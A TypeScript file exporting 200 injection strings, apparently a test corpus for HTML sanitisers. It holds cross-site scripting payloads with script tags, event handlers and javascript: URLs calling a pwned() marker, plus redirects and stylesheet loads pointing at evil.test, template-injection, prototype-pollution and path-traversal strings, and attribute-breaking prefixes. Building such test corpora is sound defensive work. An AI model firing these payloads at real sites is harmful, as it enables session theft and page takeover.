/** Texts that become markup, scripts or addresses wherever a page takes data for more than text: 200 of them. */

/** Would run `pwned()` or draw an element. */
const MARKUP = [
  '<script>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=pwned()>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<a href="javascript:pwned()">x</a>',
  '<math><mtext><a xlink:href="javascript:pwned()">x</a></mtext></math>',
  '<form action="javascript:pwned()"><button>x</button></form>',
  '<input autofocus onfocus=pwned()>',
  '<details open ontoggle=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()>',
  '<body onload=pwned()>',
  '<base href="https://evil.test/">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<style>@import "https://evil.test/x.css";</style>',
  '<marquee onstart=pwned()>x</marquee>',
  '<template><img src=x onerror=pwned()></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
];
const PLAIN = [
  'javascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '#{pwned()}',
  '__proto__',
  'constructor',
  'toString',
  '\u202epwned\u202c',
  '../../api/v1/session',
  '/\\evil.test/%2e%2e',
  '%3Cscript%3Epwned()%3C%2Fscript%3E',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;script&#62;pwned()&#60;/script&#62;',
  '\u001b[31mpwned\u001b[0m',
];
/** Ways out of where a text may stand: an element, an attribute, a comment, a script, a title. */
const BREAKS = [
  '',
  '">',
  "'>",
  '--><!-- -->',
  '</script>',
  '</title></textarea></style>',
  '" onmouseover="pwned()" x="',
];
const COUNT = 200;

export const PAYLOADS: readonly string[] = [
  ...PLAIN,
  ...BREAKS.flatMap((way) => MARKUP.map((markup) => way + markup)),
  ...MARKUP.map((markup) => markup.toUpperCase()),
].slice(0, COUNT);
